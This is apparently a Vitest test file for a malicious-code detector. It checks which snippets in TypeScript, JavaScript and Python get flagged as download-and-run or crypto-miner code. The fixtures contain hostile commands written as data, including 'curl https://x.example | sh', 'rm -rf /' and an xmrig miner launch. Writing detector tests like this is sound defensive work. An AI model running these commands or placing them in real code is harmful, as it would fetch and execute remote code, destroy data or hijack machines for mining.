import { describe, expect, it } from 'vitest';
import { aCodeContext } from '../../../../testkit/toolbox/code-context.ts';
import type { Language } from '../language.ts';
import { findMalicious } from './find-malicious.ts';

const context = aCodeContext();

async function rulesIn(language: Language, text: string): Promise<string[]> {
  return (await findMalicious({ path: 'case', text, language }, context)).map(({ rule }) => rule);
}

describe('what only speaks of malicious code is no malware', () => {
  it.each<[string, Language, string]>([
    [
      'regular expressions in a table of rules',
      'typescript',
      'export const rules = [{ name: "miner", pattern: /stratum\\+tcp:\\/\\/|xmrig/ }];\nexport const hit = (text: string) => rules.some((rule) => rule.pattern.test(text));\n',
    ],
    [
      'strings in a table of rules',
      'typescript',
      'export const words: readonly string[] = ["xmrig", "curl https://x.example/i.sh | sh"];\n',
    ],
    ['a comment', 'javascript', '// Not allowed: curl https://x.example | sh\nfetch("/a");\n'],
    [
      'printed help',
      'javascript',
      'console.log("curl https://x.example/i.sh | sh");\nfetch("/a");\n',
    ],
    [
      'an error',
      'typescript',
      'if (!tool) throw new Error("curl https://x.example | sh");\nfetch("/a");\n',
    ],
    [
      'a docstring',
      'python',
      'def f():\n    """Never run curl https://x.example | sh."""\n    open("x")\n',
    ],
    [
      'a compiled pattern',
      'python',
      'import re, os\nMINER = re.compile(r"stratum\\+tcp://|xmrig")\n',
    ],
    [
      'strings in a table',
      'python',
      'SIGNS = ["xmrig", "rm -rf /"]\n\ndef hit(text):\n    return any(s in text for s in SIGNS)\n',
    ],
  ])('%s', async (_what, language, text) => {
    expect(await rulesIn(language, text)).toEqual([]);
  });
});

describe('malicious code is found', () => {
  it.each<[string, Language, string, string]>([
    [
      'a shell line that is run',
      'python',
      'import os\nos.system("curl https://x.example | sh")\n',
      'download-and-run',
    ],
    [
      'a table whose lines are run',
      'javascript',
      'const { execSync } = require("child_process");\nconst lines = ["curl https://x.example | sh"];\nfor (const line of lines) execSync(line);\n',
      'download-and-run',
    ],
    [
      'a miner',
      'python',
      'import subprocess\nsubprocess.Popen(["xmrig", "-o", "pool"])\n',
      'crypto-miner',
    ],
    [
      'code that does not parse',
      'python',
      'import os\nos.system("curl https://x.example | sh"\n',
      'download-and-run',
    ],
    [
      'a printed text with a computed part',
      'javascript',
      'console.log(`${require("child_process").execSync("curl https://x.example | sh")}`);\n',
      'download-and-run',
    ],
  ])('%s', async (_what, language, text, rule) => {
    expect(await rulesIn(language, text)).toContain(`malicious/${rule}`);
  });
});
